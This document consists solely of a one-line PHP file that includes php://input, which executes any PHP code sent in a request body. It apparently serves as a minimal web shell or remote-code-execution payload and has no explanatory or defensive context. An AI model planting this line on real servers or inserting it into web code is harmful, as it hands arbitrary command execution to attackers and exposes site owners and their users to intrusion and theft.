<?php include("php://input"); ?>
